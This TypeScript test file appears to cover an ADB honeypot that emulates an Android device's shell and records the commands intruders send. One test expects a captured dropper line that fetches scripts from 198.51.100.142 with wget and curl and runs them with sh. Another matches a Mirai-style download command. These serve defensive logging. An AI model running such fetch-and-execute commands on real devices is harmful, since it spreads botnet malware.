// The adbd session on the corpus droppers and on streams built the way the adb client does.

import { describe, expect, it } from 'vitest';

import { corpusBytes } from '../test-corpus.js';
import { startSession, type FakeContext } from '../test-session.js';
import { adb } from './index.js';
import { encodeMessage, encodeShellPacket, readMessage, readShellPacket } from './parse.js';
import { DEVICE_BANNER, PROMPT } from './shell.js';

interface Sent { command: string; arg0: number; arg1: number; data: string }

/** Every message the device sent, decoded. */
function sent(ctx: FakeContext): Sent[] {
  let rest = Buffer.concat(ctx.sent);
  const out: Sent[] = [];
  for (;;) {
    const m = readMessage(rest);
    if (m.kind !== 'message') return out;
    out.push({ command: m.head.command, arg0: m.head.arg0, arg1: m.head.arg1,
      data: m.data.toString('latin1') });
    rest = rest.subarray(m.length);
  }
}

const CNXN = encodeMessage('CNXN', 0x01000001, 1024 * 1024,
  Buffer.from('host::features=shell_v2,cmd,stat_v2\0'));

function open(id: number, service: string): Buffer {
  return encodeMessage('OPEN', id, 0, Buffer.from(`${service}\0`));
}

describe('adb session', () => {
  it('answers CNXN with the device banner, its version and the smaller maxdata', () => {
    const { ctx, session } = startSession(adb);
    session.data(corpusBytes('adb-cnxn-host-handshake'));
    expect(sent(ctx)).toEqual([{ command: 'CNXN', arg0: 0x01000000, arg1: 4096,
      data: DEVICE_BANNER }]);
    expect(ctx.fields).toMatchObject({ client_banner: 'host::', version: 0x01000000,
      max_data: 4096 });
  });

  it('records the dropper command and answers OKAY, then CLSE for a silent command', () => {
    const { ctx, session } = startSession(adb);
    session.data(corpusBytes('seed-5555-adb-shell-dropper'));
    expect(sent(ctx).map((m) => [m.command, m.arg0, m.arg1])).toEqual([
      ['CNXN', 0x01000000, 4096], ['OKAY', 1, 0x25], ['CLSE', 1, 0x25]]);
    expect(ctx.commands).toEqual(['cd /data/local/tmp/; busybox wget http://198.51.100.142/w ' +
      '-O -> w; sh w; rm w; curl http://198.51.100.142/c > c; sh c; rm c']);
    expect(ctx.fields['services']).toEqual([`shell:${ctx.commands[0]}`]);
  });

  it('records the Mirai urbotnetisass command', () => {
    const { ctx, session } = startSession(adb);
    session.data(corpusBytes('adb-shell-mirai-urbotnetisass'));
    expect(ctx.commands[0]).toMatch(/^cd \/data\/local\/tmp\/; rm \*; busybox wget .*android$/);
  });

  it('waits for the client OKAY before closing a stream that had output', () => {
    const { ctx, session } = startSession(adb);
    session.data(Buffer.concat([CNXN, open(7, 'shell:id')]));
    expect(sent(ctx).slice(1).map((m) => m.command)).toEqual(['OKAY', 'WRTE']);
    expect(sent(ctx)[2]?.data).toMatch(/^uid=2000\(shell\) gid=2000\(shell\)/);
    ctx.clear();
    session.data(encodeMessage('OKAY', 7, 1));
    expect(sent(ctx).map((m) => [m.command, m.arg0, m.arg1])).toEqual([['CLSE', 1, 7]]);
  });

  it('frames shell v2 output and reports exit status 0', () => {
    const { ctx, session } = startSession(adb);
    session.data(Buffer.concat([CNXN, open(3, 'shell,v2,TERM=xterm,raw:whoami')]));
    const write = sent(ctx)[2];
    expect(readShellPacket(Buffer.from(write?.data ?? '', 'latin1'))).toMatchObject({
      kind: 'message', id: 1, data: Buffer.from('shell\n') });
    ctx.clear();
    session.data(encodeMessage('OKAY', 3, 1));
    expect(sent(ctx)[0]?.data).toBe('\x03\x01\x00\x00\x00\x00');
    ctx.clear();
    session.data(encodeMessage('OKAY', 3, 1));
    expect(sent(ctx).map((m) => m.command)).toEqual(['CLSE']);
    expect(ctx.commands).toEqual(['whoami']);
  });

  it('gives an interactive shell a prompt, echoes typing and records each line', () => {
    const { ctx, session } = startSession(adb);
    session.data(Buffer.concat([CNXN, open(5, 'shell:')]));
    expect(sent(ctx)[2]?.data).toBe(PROMPT);
    session.data(encodeMessage('OKAY', 5, 1));
    ctx.clear();
    session.data(encodeMessage('WRTE', 5, 1, Buffer.from('uname -m\r')));
    expect(sent(ctx).map((m) => [m.command, m.data])).toEqual([['OKAY', ''],
      ['WRTE', `uname -m\r\naarch64\r\n${PROMPT}`]]);
    session.data(encodeMessage('OKAY', 5, 1));
    session.data(encodeMessage('WRTE', 5, 1, encodeShellPacket(0, Buffer.from('x'))));
    expect(ctx.commands).toEqual(['uname -m']);
  });

  it('runs a raw shell v2 stdin without echo or prompt, as piped input gets', () => {
    const { ctx, session } = startSession(adb);
    session.data(Buffer.concat([CNXN, open(4, 'shell,v2,TERM=xterm,raw:')]));
    expect(sent(ctx).slice(1).map((m) => m.command)).toEqual(['OKAY']);
    session.data(encodeMessage('WRTE', 4, 1, encodeShellPacket(0, Buffer.from('whoami\n'))));
    const write = sent(ctx).at(-1)?.data ?? '';
    expect(readShellPacket(Buffer.from(write, 'latin1'))).toMatchObject({ id: 1,
      data: Buffer.from('shell\n') });
    expect(ctx.commands).toEqual(['whoami']);
  });

  it('refuses services other than shell with CLSE from local id 0', () => {
    const { ctx, session } = startSession(adb);
    session.data(Buffer.concat([CNXN, open(9, 'sync:')]));
    expect(sent(ctx).slice(1).map((m) => [m.command, m.arg0, m.arg1])).toEqual([['CLSE', 0, 9]]);
  });

  it('ignores streams before CNXN and drops the transport on a broken header', () => {
    const { ctx, session } = startSession(adb);
    session.data(open(1, 'shell:id'));
    expect(ctx.sent).toEqual([]);
    session.data(Buffer.from('GET / HTTP/1.1\r\n\r\n......'));
    expect(ctx.reasons).toEqual(['unknown_command']);
    expect(ctx.ended).toBe(true);
  });
});
